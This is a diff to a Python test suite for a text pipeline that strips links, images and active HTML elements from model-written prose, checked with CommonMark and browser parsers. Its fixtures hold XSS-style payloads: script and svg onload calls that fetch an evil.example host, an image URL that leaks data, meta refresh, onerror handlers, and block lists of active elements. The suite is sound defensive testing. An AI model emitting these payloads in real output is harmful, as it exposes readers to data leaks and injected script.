@@ -1,28 +1,69 @@
 """Prose carries no links: whatever link form the model writes, the pipeline's text renders
-without one. A CommonMark renderer (markdown-it, HTML on) is the judge, since it is what
-turns a missed form into a live link on a reader's page."""
+without a link, an image or an element that navigates, fetches or runs. A CommonMark renderer
+(markdown-it, raw HTML on and off) is the judge, since it is what turns a missed form into a
+live link on a reader's page, and a browser's HTML parser (lexbor's) judges the raw HTML it
+passes on."""
 
 from __future__ import annotations
 
 import re
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
+from selectolax.lexbor import LexborHTMLParser
 
 from citeline.stream import Anchor, Pipeline
 
 from .test_properties import PIECES, split
 
 RENDERER = MarkdownIt("commonmark")
-# A raw anchor a browser would make a link of: an <a> tag, closed, with an href.
-HTML_ANCHOR = re.compile(r"<a[\s/][^>]*href[^>]*>", re.IGNORECASE)
+RENDERERS = {"html on": RENDERER, "html off": MarkdownIt("commonmark", {"html": False})}
+
+
+def _without_markdown_links(renderer: MarkdownIt) -> MarkdownIt:
+    """``renderer``, writing no element for a markdown link or image: those are judged by
+    their tokens, and what is left is the raw HTML a browser would be given."""
+    quiet = MarkdownIt("commonmark", {"html": renderer.options["html"]})
+    for rule in ("link_open", "link_close", "image"):
+        quiet.add_render_rule(rule, lambda *_: "")
+    return quiet
+
+
+RAW_HTML = {name: _without_markdown_links(renderer) for name, renderer in RENDERERS.items()}
+# Written here, apart from the stream's own lists, so that one cannot vouch for the other:
+# elements that navigate, fetch or run by being there, and attributes that do on any element.
+ACTIVE_ELEMENTS = {
+    "a", "area", "audio", "base", "button", "embed", "form", "frame", "frameset", "iframe",
+    "image", "img", "input", "link", "meta", "object", "picture", "portal", "script",
+    "source", "style", "track", "use", "video", "animate", "set",
+}  # fmt: skip
+ADDRESS_ATTRIBUTES = {
+    "href", "src", "srcset", "srcdoc", "action", "formaction", "data", "poster",
+    "background", "style", "xlink:href", "ping", "lowsrc", "dynsrc",
+}  # fmt: skip
+
+
+def active_elements_in(html: str) -> list[str]:
+    """The elements a browser (lexbor, through selectolax) builds from ``html`` that are
+    active by the lists above."""
+    found: list[str] = []
+    for node in LexborHTMLParser(html).root.traverse(include_text=False):
+        names = {name.lower() for name in node.attributes}
+        if (
+            node.tag in ACTIVE_ELEMENTS
+            or names & ADDRESS_ATTRIBUTES
+            or any(name.startswith("on") for name in names)
+        ):
+            found.append(f"<{node.tag} {sorted(names)}>")
+    return found
 
 
 def links_in(markdown: str) -> list[str]:
-    """Every link the renderer would make of ``markdown``: link tokens and raw <a> tags.
+    """Every link, image or active element a renderer would make of ``markdown``, with raw
+    HTML on or off: link and image tokens, and active elements in the raw HTML passed on.
 
     Not a link whose text holds a code span with a bracket in it ("[`]`](u)"): the one
     form the stream does not reduce, as contracts/stream.md says.
@@ -33,12 +74,16 @@ def links_in(markdown: str) -> list[str]:
         for at, token in enumerate(tokens):
             if token.type == "link_open" and not _bracket_in_code_span(tokens[at + 1 :]):
                 found.append(str(token.attrGet("href")))
-            if token.type in {"html_inline", "html_block"} and HTML_ANCHOR.search(token.content):
-                found.append(token.content)
+            if token.type == "image":
+                found.append("image " + str(token.attrGet("src")))
             if token.children:
                 walk(token.children)
 
-    walk(RENDERER.parse(markdown))
+    for name, renderer in RENDERERS.items():
+        walk(renderer.parse(markdown))
+        # The page a browser is given, all of it together: a tag one raw HTML token leaves
+        # open is continued by what follows it.
+        found += active_elements_in(RAW_HTML[name].render(markdown))
     return found
 
 
@@ -230,6 +275,23 @@ def test_no_arrangement_of_backticks_and_markup_renders_a_link(answer: str) -> N
 FENCE_LINE = re.compile(r"^ {0,3}(?:```|~~~)", re.MULTILINE)
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\\</a>\\[x](https://evil.example)",
+        "\\<a href=u>\\[x](https://evil.example)</a>",
+        "\\</a>`[x](https://evil.example)`",
+    ],
+)
+def test_a_backslash_left_before_removed_markup_escapes_what_it_now_precedes(text: str) -> None:
+    # Found by fuzzing (issue 27): with "</a>" removed, the backslash before it escaped the
+    # one before "[", so "[x](...)" was live; and a backtick after it opened no span.
+    assert links_in(text) == [], "the case must hold no link as written"
+    whole, _ = run([text])
+    assert links_in(whole) == [], whole
+    assert run(list(text))[0] == whole
+
+
 def test_markup_removed_between_the_parts_of_a_link_does_not_join_them_into_one() -> None:
     for text in [
         "[a]</a>(https://evil.example)",
@@ -290,3 +352,242 @@ def test_no_answer_renders_a_link_after_the_pipeline(case: tuple[str, list[str]]
     _, fragments = case
     text, _ = run(fragments)
     assert links_in(text) == []
+
+
+# Issue 29's probes: CommonMark's own notions of a blank, a line ending and an HTML block,
+# each of which let a live link through where the stream used a notion of its own.
+
+# Unicode spaces that CommonMark takes as part of a destination, not as blanks.
+UNICODE_SPACES = [
+    "\u00a0", *(chr(code) for code in range(0x2000, 0x200B)), "\u2028", "\u2029", "\u3000",
+    "\u0085", "\u1680",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("space", UNICODE_SPACES, ids=[f"U+{ord(c):04X}" for c in UNICODE_SPACES])
+def test_a_unicode_space_inside_a_destination_does_not_keep_a_link_live(space: str) -> None:
+    for text in [
+        f"See [guide](https://evil.example/zebra{space}care).",
+        f"See <https://evil.example/zebra{space}care>.",
+        f"See [guide][r].\n\n[r]: https://evil.example/zebra{space}care\n",
+    ]:
+        assert links_in(text), "the case must be a link as written"
+        whole, anchors = run([text])
+        assert links_in(whole) == [], whole
+        assert [anchor.href for anchor in anchors] == [f"https://evil.example/zebra{space}care"]
+        assert run(list(text)) == (whole, anchors)
+
+
+LINE_ENDINGS = {"CR": "\r", "CRLF": "\r\n", "LF": "\n"}
+
+
+@pytest.mark.parametrize("ending", list(LINE_ENDINGS.values()), ids=list(LINE_ENDINGS))
+def test_a_fence_closed_at_any_line_ending_leaves_the_link_after_it_reduced(ending: str) -> None:
+    text = f"```{ending}code{ending}```{ending}[guide](https://evil.example/cr){ending}"
+    assert links_in(text)
+    whole, _ = run([text])
+    assert links_in(whole) == []
+    assert whole == f"```{ending}code{ending}```{ending}guide{ending}"
+    assert run(list(text))[0] == whole
+
+
+@pytest.mark.parametrize("ending", list(LINE_ENDINGS.values()), ids=list(LINE_ENDINGS))
+def test_a_source_heading_ended_by_any_line_ending_is_dropped(ending: str) -> None:
+    text = f"Answer.{ending}## Sources{ending}- [x](https://e.org/x){ending}"
+    whole, anchors = run([text])
+    assert whole == f"Answer.{ending}"
+    assert [anchor.start for anchor in anchors] == [None]
+    assert run(list(text)) == (whole, anchors)
+
+
+def test_the_probes_fence_closed_by_a_lone_cr_shelters_no_link() -> None:
+    # Issue 29's probe: the renderer closed the block at "```\r"; the stream kept it open.
+    text = "```\ncode\r```\r[guide](https://evil.example/cr-probe)\n"
+    assert links_in(text)
+    whole, anchors = run([text])
+    assert links_in(whole) == []
+    assert [anchor.href for anchor in anchors] == ["https://evil.example/cr-probe"]
+    assert run(list(text)) == (whole, anchors)
+
+
+def test_a_crlf_split_between_fragments_ends_one_line_not_two() -> None:
+    # Read as two line endings, the CR and LF made a blank line that ended the HTML block,
+    # and the fence inside it opened "code" the renderer never saw.
+    text = "<div>\r\n```\r\n</div>\r\nAfter [x](https://evil.example/crlf)\r\n"
+    whole, _ = run([text])
+    assert links_in(whole) == []
+    for cut in range(len(text)):
+        assert run([text[:cut], text[cut:]])[0] == whole
+
+
+# CommonMark's HTML blocks of types 1 to 5 run past blank lines to their end; a fence line
+# inside one is no fence for a renderer with raw HTML on.
+HTML_BLOCKS = {
+    "1 pre": ("<pre>", "</pre>"),
+    "1 script": ("<script>", "</script>"),
+    "1 style": ("<style>", "</style>"),
+    "1 textarea": ("<textarea>", "</textarea>"),
+    "2 comment": ("<!--", "-->"),
+    "3 processing instruction": ("<?php", "?>"),
+    "4 declaration": ("<!DOCTYPE html", ">"),
+    "5 CDATA": ("<![CDATA[", "]]>"),
+    "6 div": ("<div>", ""),
+    "7 any tag": ("<span class=x>", ""),
+}
+
+
+@pytest.mark.parametrize("ending", list(LINE_ENDINGS.values()), ids=list(LINE_ENDINGS))
+@pytest.mark.parametrize("block", list(HTML_BLOCKS.values()), ids=list(HTML_BLOCKS))
+def test_a_fence_inside_an_html_block_shelters_no_link_after_the_block(
+    block: tuple[str, str], ending: str
+) -> None:
+    start, end = block
+    link = "[guide](https://evil.example/html)"
+    if end:
+        # Types 1 to 5: a blank line inside, the fence after it, the end, then the link.
+        lines = [start, "", "```", "x", end, "", link, "```", ""]
+    else:
+        # Types 6 and 7 end at a blank line: the fence comes before it.
+        lines = [start, "```", "x", "", link, "```", ""]
+    text = ending.join(lines)
+    assert links_in(text)
+    whole, _ = run([text])
+    assert links_in(whole) == [], whole
+    assert run(list(text))[0] == whole
+
+
+ACTIVE = {
+    "area": '<map name=m><area href="https://evil.example/a" shape=default></map>',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/m">',
+    "base": '<base href="https://evil.example/">',
+    "form": '<form action="https://evil.example/f"><button>Go</button></form>',
+    "iframe": '<iframe src="https://evil.example/i"></iframe>',
+    "img": '<img src="https://evil.example/p.png?leak=1">',
+    "script": "<script>fetch('https://evil.example/s')</script>",
+    "svg onload": "<svg onload=\"fetch('https://evil.example/v')\"></svg>",
+    "a handler on an inert element": '<b onmouseover="alert(1)">hover</b>',
+    "a style that fetches": '<span style="background:url(https://evil.example/b)">x</span>',
+    "a handler after a quote": '<div>\n<b title="x"onclick="alert(1)">y</b>\n</div>\n',
+    "in an HTML block": '<div>\n<img src=x onerror="alert(1)">\n</div>\n',
+}
+
+
+@pytest.mark.parametrize("text", list(ACTIVE.values()), ids=list(ACTIVE))
+def test_no_element_that_navigates_fetches_or_runs_is_left_in_prose(text: str) -> None:
+    assert links_in(text), "the case must be active as written"
+    whole, _ = run([text])
+    assert links_in(whole) == [], whole
+    assert run(list(text))[0] == whole
+
+
+def test_an_active_tag_is_shown_as_its_text() -> None:
+    # Its "<" written "&lt;": the reader sees the tag the model wrote, and no browser runs it.
+    whole, _ = run(['See <img src="https://evil.example/p.png"> here.'])
+    assert whole == 'See &lt;img src="https://evil.example/p.png"> here.'
+    assert RENDERER.render(whole) == (
+        "<p>See &lt;img src=&quot;https://evil.example/p.png&quot;&gt; here.</p>\n"
+    )
+
+
+def test_inert_tags_and_generic_types_stay_as_written() -> None:
+    text = "Use <b>sorted</b>, x<sup>2</sup>, <br/> and List<String> or Map<K, V>."
+    assert run([text]) == (text, [])
+
+
+def test_a_markdown_image_becomes_its_alt_text_and_an_anchor() -> None:
+    text = "Look ![the chart](https://evil.example/p.png?leak=question) here."
+    whole, anchors = run([text])
+    assert whole == "Look the chart here."
+    assert anchors == [Anchor("https://evil.example/p.png?leak=question", "the chart", 5, 14)]
+    assert run(list(text)) == (whole, anchors)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x][img]\n\n[img]: https://evil.example/r.png\n",
+        "![x][]\n\n[x]: https://evil.example/c.png\n",
+        "[![x](https://evil.example/i.png)](https://evil.example/l)",
+        "![a ![b](https://evil.example/n.png)](https://evil.example/o.png)",
+        "\\![x](https://evil.example/e)",
+    ],
+)
+def test_every_image_form_is_reduced(text: str) -> None:
+    assert links_in(text)
+    whole, _ = run([text])
+    assert links_in(whole) == [], whole
+    assert run(list(text))[0] == whole
+
+
+def test_an_exclamation_mark_not_before_a_bracket_is_prose() -> None:
+    assert run(["Great! [x](https://e.org) !"])[0] == "Great! x !"
+
+
+HOSTILE_PIECES = [
+    *UNICODE_SPACES[:4],
+    "\r",
+    "\r\n",
+    "\x00",
+    "![",
+    "](https://evil.example/p.png)",
+    "<!--",
+    "-->",
+    "<pre>",
+    "</pre>",
+    "<script>",
+    "</script>",
+    "<style>",
+    "<textarea>",
+    "<?",
+    "?>",
+    "<!DOCTYPE",
+    "<![CDATA[",
+    "]]>",
+    "<div>",
+    "<span>",
+    "<img src=x onerror=y>",
+    "<svg onload=y>",
+    ' style="x"',
+    " onclick=y",
+    "<b ",
+    "```",
+    "~~~",
+    "\n\n",
+    # Issue 27's forms beside them: code spans kept as code (and runs that must not be), a
+    # table cell's edge, and tool calls a model server left as text.
+    "`[x](https://evil.example)`",
+    "``",
+    "`![x](https://evil.example/p.png)`",
+    "|",
+    "<tool_call>",
+    "</tool_call>",
+    '{"name": "s", "arguments": {}}',
+    "```json\n",
+]
+
+
+@st.composite
+def hostile_answers_and_splits(draw: st.DrawFn) -> tuple[str, list[str]]:
+    pieces = st.one_of(
+        st.sampled_from(PIECES),
+        st.sampled_from(HOSTILE_PIECES),
+        st.text(alphabet="ab <[]()!\n\r:`\\>'\"~=\u00a0\u3000", max_size=6),
+    )
+    text = "".join(draw(st.lists(pieces, max_size=30)))
+    return text, draw(split(text))
+
+
+@settings(max_examples=400, deadline=None)
+@given(hostile_answers_and_splits())
+# Found by fuzzing: the backslash left before removed markup escaped the next one, and the
+# link after it was live; a definition's title on its next line, split there, came out prose.
+@example(("\\</a>\\[x](https://evil.example)", ["\\</a>\\", "[x](https://evil.example)"]))
+@example(("\\</a>`[x](https://evil.example)`", list("\\</a>`[x](https://evil.example)`")))
+@example(('[1]: <a href="\u2026">\n()', ['[1]: <a href="\u2026">\n', "()"]))
+def test_no_hostile_answer_renders_a_link_image_or_active_element(
+    case: tuple[str, list[str]],
+) -> None:
+    text, fragments = case
+    whole, anchors = run([text])
+    assert links_in(whole) == []
+    assert run(fragments) == (whole, anchors)
